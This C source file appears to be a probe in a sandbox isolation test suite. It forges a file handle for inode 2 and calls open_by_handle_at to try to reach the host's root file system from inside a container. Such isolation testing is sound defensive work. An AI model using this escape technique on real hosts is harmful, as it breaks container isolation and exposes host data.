/* Opens files by handles, which reach past mounts: inode 2 is the root of most file systems. */
#include "attack.h"

int main(void) {
    struct { struct file_handle head; unsigned char bytes[128]; } handle = {.head = {.handle_bytes = 128}};
    int mount_id;
    ATTEMPT("name_to_handle_at", name_to_handle_at(AT_FDCWD, "/usr", &handle.head, &mount_id, 0));
    handle.head.handle_bytes = 8;
    handle.head.handle_type = 1;
    memcpy(handle.bytes, (uint32_t[2]){2, 0}, 8);
    int root = open("/usr", O_RDONLY);
    ATTEMPT("open_by_handle_at, the root of the host's disk", open_by_handle_at(root, &handle.head, O_RDONLY));
    int code = open("/function", O_RDONLY);
    ATTEMPT("open_by_handle_at, by the code's mount", open_by_handle_at(code, &handle.head, O_RDONLY));
    return 0;
}
